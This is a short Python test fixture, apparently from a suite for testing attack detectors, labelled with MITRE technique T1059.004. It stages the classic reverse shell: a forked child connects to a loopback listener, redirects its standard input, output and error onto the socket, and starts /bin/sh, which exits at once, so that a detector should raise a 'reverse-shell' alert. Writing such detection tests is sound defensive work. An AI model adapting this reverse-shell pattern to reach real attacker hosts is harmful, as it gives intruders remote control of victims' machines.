# technique: T1059.004
# expect: reverse-shell
"""Command and Scripting Interpreter: Unix Shell (T1059.004): the classic
Python reverse shell. A forked child connects to a listener on the
loopback (standing in for the attacker's machine), `dup2`s the socket onto
its standard input, output and error and starts `/bin/sh` through
`subprocess` (the shell exits at once).

A good detector raises a critical alert: a shell starts with a socket on
its standard input (`reverse-shell`)."""
import os, socket, subprocess

listener = socket.create_server(("127.0.0.1", 0))
child = os.fork()
if child == 0:
    connection = socket.create_connection(listener.getsockname())
    for fd in (0, 1, 2):
        os.dup2(connection.fileno(), fd)
    subprocess.call(["/bin/sh", "-c", "exit 0"])
    os._exit(0)
attacker, _ = listener.accept()
os.waitpid(child, 0)
attacker.close()
